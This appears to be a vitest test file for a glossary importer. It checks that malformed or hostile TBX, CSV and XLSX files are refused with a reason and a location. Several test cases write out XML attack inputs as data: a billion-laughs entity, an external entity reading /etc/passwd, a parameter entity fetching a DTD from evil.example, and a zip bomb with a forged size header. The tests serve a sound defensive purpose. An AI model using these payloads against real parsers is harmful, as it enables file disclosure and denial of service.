import { zipSync } from "fflate";
import { expect, test } from "vitest";
import type { Format } from "#features/glossary/contract.ts";
import { readFile } from "./import/file-reading.ts";
import { Unreadable } from "./import-draft.ts";
import { checkZip } from "./sheets/zip-check.ts";
import { bytes, read } from "./testing.ts";

/* Files that are broken, or meant to break: refused with a place and a reason. */

/** Why a file can't be read, and where. */
async function refusal(format: Format, ...pieces: (string | Uint8Array)[]) {
  try {
    await read(readFile(format, bytes(...pieces)));
    return undefined;
  } catch (error) {
    if (!(error instanceof Unreadable)) throw error;
    const { reason, line, column } = error.problem;
    return [reason, line, column];
  }
}

const term = (text: string) =>
  `<termEntry id="c1"><langSet xml:lang="sv"><tig><term>${text}</term></tig></langSet></termEntry>`;
const martif = (body: string, head = "") =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${head}<martif type="TBX" xml:lang="sv"><text><body>\n${body}\n</body></text></martif>`;
const utf16 = (text: string, isBig = false) => {
  const units = Buffer.from(`\ufeff${text}`, "utf16le");
  return new Uint8Array(isBig ? units.swap16() : units);
};

test.for([
  [
    "a billion laughs",
    martif(term("&lol9;"), `<!DOCTYPE martif [\n<!ENTITY lol "lol">\n<!ENTITY lol2 "&lol;&lol;">]>\n`),
    ["import.entities", 3, null],
  ],
  [
    "an external entity",
    martif(term("&x;"), `<!DOCTYPE martif [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n`),
    ["import.entities", 2, null],
  ],
  [
    "a parameter entity",
    martif(term("x"), `<!DOCTYPE martif [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>\n`),
    ["import.entities", 2, null],
  ],
  ["an entity that nobody declared", martif(term("&aring;")), ["import.unknownEntity", 3, 60]],
  ["elements without end within each other", martif("<note>".repeat(100_000)), ["import.tooDeep", 3, 367]],
  ["a file that is cut off", martif(term("x")).slice(0, -30), ["import.cutOff", 3, 83]],
  ["a tag that closes another", martif("<termEntry></langSet>"), ["import.wrongTag", 3, 21]],
  ["a character that XML does not know", martif(term("a\u0001b")), ["import.badCharacter", 3, 55]],
  ["an attribute without quotes", martif("<termEntry id=x/>"), ["import.badXml", 3, 15]],
  ["an empty file", "", ["import.empty", 1, null]],
  ["spaces alone", "\n\n", ["import.notXml", 3, 1]],
  ["plain text", "term;språk", ["import.notXml", 1, 10]],
  ["a web page", "<html><body>x</body></html>", ["import.notTbx", 1, 1]],
  ["NUL in the middle", martif(term("a\u0000b")), ["import.notText", 3, 55]],
  ["UTF-16 without its mark", new Uint8Array(Buffer.from("<martif/>", "utf16le")), ["import.notText", 1, 2]],
  [
    "an encoding that is none of ours",
    '<?xml version="1.0" encoding="KOI8-R"?><martif/>',
    ["import.encoding", 1, null],
  ],
  [
    "Latin 1 that says nothing",
    new Uint8Array(Buffer.from("<martif>\n<text>\nförvaltning", "latin1")),
    ["import.notUtf8", 3, null],
  ],
] as const)("refused: %s", async ([, file, reason]) => {
  expect(await refusal("tbx", file)).toEqual(reason);
});

test("refused: one text of many megabytes, before it fills the memory", async () => {
  const pieces = ["<martif><text><body><termEntry><langSet xml:lang='sv'><tig><term>"];
  const megabyte = "x".repeat(1_000_000);

  expect((await refusal("tbx", ...pieces, megabyte, megabyte, megabyte))?.[0]).toBe("import.textTooLong");
});

test("refused: an entry of more elements than any has", async () => {
  expect((await refusal("tbx", martif(`<termEntry>${"<note/>".repeat(30_000)}</termEntry>`)))?.[0]).toBe(
    "import.entryTooLarge",
  );
});

test("UTF-16 with its mark is read, either way round, and a byte order mark is no text", async () => {
  for (const file of [
    utf16(martif(term("å"))),
    utf16(martif(term("å")), true),
    `\ufeff${martif(term("å"))}`,
  ]) {
    const { concepts } = await read(readFile("tbx", bytes(file)));
    expect(concepts[0]?.draft.terms[0]?.term).toBe("å");
  }
});

test("a file that is cut between any two bytes is read as if it were whole", async () => {
  const file = new TextEncoder().encode(martif(term("åäö 👩‍👩‍👧 &amp; é")));
  const whole = await read(readFile("tbx", bytes(file)));

  const apart = await read(readFile("tbx", bytes(...Array.from(file, (byte) => Uint8Array.of(byte)))));

  expect(apart).toEqual(whole);
  expect(whole.concepts[0]?.draft.terms[0]?.term).toBe("åäö 👩‍👩‍👧 & é");
});

test.for([
  ["no columns that we know", "a;b\n1;2", ["import.unclearTable", 1, null]],
  ["an empty file", "", ["import.empty", 1, null]],
  [
    "a quotation mark that is never closed",
    'language;term\nsv;kommun\nsv;"stad\n',
    ["import.quoteNotClosed", 3, null],
  ],
  ["a quotation mark within a cell", 'language;term\nsv;"stad" x\n', ["import.badCsv", 2, null]],
  ["NUL", "language;term\nsv;a\u0000b", ["import.notText", 2, 5]],
  ["a row without end", `language;term\nsv;${"x".repeat(2_000_000)}`, ["import.badCsv", 2, null]],
] as const)("refused as CSV: %s", async ([, file, reason]) => {
  expect(await refusal("csv", file)).toEqual(reason);
});

test("refused as XLSX: what is none", async () => {
  const sheetless = zipSync({ "a.txt": Uint8Array.of(1) });

  expect(await refusal("xlsx", "language;term")).toEqual(["import.notXlsx", 1, null]);
  expect(await refusal("xlsx", sheetless)).toEqual(["import.notXlsx", 1, null]);
});

test("a zip that unpacks to more than any glossary is refused before it is unpacked whole", () => {
  const bomb = zipSync({ "xl/worksheets/sheet1.xml": new Uint8Array(400_000) });
  const many = zipSync(
    Object.fromEntries(Array.from({ length: 201 }, (_, at) => [`${at}.xml`, Uint8Array.of(1)])),
  );

  expect(bomb.length).toBeLessThan(2_000);
  expect(() => checkZip(bomb, 500_000)).not.toThrow();
  expect(() => checkZip(bomb, 300_000)).toThrow("import.zipTooLarge");
  expect(() => checkZip(many)).toThrow("import.zipTooLarge");
  // What a zip says of its own sizes may lie.
  const liar = bomb.slice();
  new DataView(liar.buffer).setUint32(22, 10, true);
  expect(() => checkZip(liar, 300_000)).toThrow("import.zipTooLarge");
});

test("a concept of twenty thousand rows, and one of all terms that an entry holds, are read at once", async () => {
  const rows = Array.from({ length: 20_000 }, (_, at) => `1;sv;term ${at}`).join("\n");
  const sections = Array.from({ length: 6_000 }, (_, at) => `<tig><term>term ${at}</term></tig>`).join("");

  const sheet = await read(readFile("csv", bytes(`concept;language;term\n${rows}`)));
  const entry = await read(
    readFile("tbx", bytes(martif(`<termEntry><langSet xml:lang="sv">${sections}</langSet></termEntry>`))),
  );

  for (const { concepts, problems } of [sheet, entry]) {
    expect(concepts[0]?.draft.terms).toHaveLength(30);
    expect(problems.map(({ reason }) => reason)).toEqual(["import.termsLeftOut"]);
  }
});

test("a large TBX is read piece by piece, while others get their turn", async () => {
  const entry = (at: number) => term(`term ${at}`).replace("c1", `c${at}`);
  async function* file() {
    yield new TextEncoder().encode(martif("").split("\n\n")[0] ?? "");
    for (let at = 0; at < 15_000; at += 1_000)
      yield new TextEncoder().encode(Array.from({ length: 1_000 }, (_, one) => entry(at + one)).join("\n"));
    yield new TextEncoder().encode("</body></text></martif>");
  }
  let turns = 0;
  const others = setInterval(() => turns++, 1);

  let found = 0;
  for await (const each of readFile("tbx", file())) if ("concept" in each) found++;
  clearInterval(others);

  expect(found).toBe(15_000);
  expect(turns).toBeGreaterThan(20);
});
